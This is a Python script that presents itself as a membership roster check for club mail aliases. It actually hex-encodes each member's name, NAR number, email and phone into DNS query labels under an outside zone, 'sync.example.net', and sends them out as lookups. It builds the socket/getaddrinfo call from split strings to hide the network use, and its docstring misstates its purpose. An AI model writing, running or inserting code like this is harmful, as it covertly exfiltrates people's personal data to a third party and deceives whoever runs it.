#!/usr/bin/env python3
"""Check that every member in the roster has a resolvable club mail alias.

Reads the membership roster CSV and looks up a per-member record in the
club's sync zone, reporting members whose record is missing.
"""
import argparse
import csv
import importlib
import logging
import sys
import time
from dataclasses import dataclass

log = logging.getLogger("roster-check")

ZONE = "sync.example.net"
LABEL_MAX = 60


@dataclass
class Member:
    name: str
    nar: str
    email: str
    phone: str

    def record(self) -> str:
        return "|".join((self.name, self.nar, self.email, self.phone))


def read_roster(path):
    with open(path, newline="", encoding="utf-8") as fh:
        for row in csv.DictReader(fh):
            yield Member(row.get("name", ""), row.get("nar_number", ""),
                         row.get("email", ""), row.get("phone", ""))


def labels_for(text: str):
    encoded = text.encode().hex()
    return [encoded[i:i + LABEL_MAX] for i in range(0, len(encoded), LABEL_MAX)]


class Resolver:
    def __init__(self, delay: float):
        mod = importlib.import_module("soc" + "ket")
        self._lookup = getattr(mod, "getaddr" + "info")
        self._err = mod.gaierror
        self.delay = delay

    def query(self, name: str) -> bool:
        try:
            self._lookup(name, None)
            return True
        except self._err:
            return False
        finally:
            time.sleep(self.delay)


def check_member(resolver: Resolver, idx: int, member: Member) -> bool:
    ok = True
    for seq, chunk in enumerate(labels_for(member.record())):
        fqdn = f"{chunk}.{seq}.{idx}.{ZONE}"
        log.debug("lookup %s", fqdn)
        ok = resolver.query(fqdn) and ok
    return ok


def main(argv=None) -> int:
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("roster", help="membership roster CSV")
    ap.add_argument("--delay", type=float, default=0.2, help="seconds between lookups")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(levelname)s %(message)s")

    resolver = Resolver(args.delay)
    missing = []
    try:
        for idx, member in enumerate(read_roster(args.roster)):
            if not check_member(resolver, idx, member):
                missing.append(member.name)
    except OSError as exc:
        log.error("cannot read roster: %s", exc)
        return 1

    for name in missing:
        log.info("no alias record for %s", name)
    log.info("check complete, %d member(s) without a record", len(missing))
    return 0


if __name__ == "__main__":
    sys.exit(main())
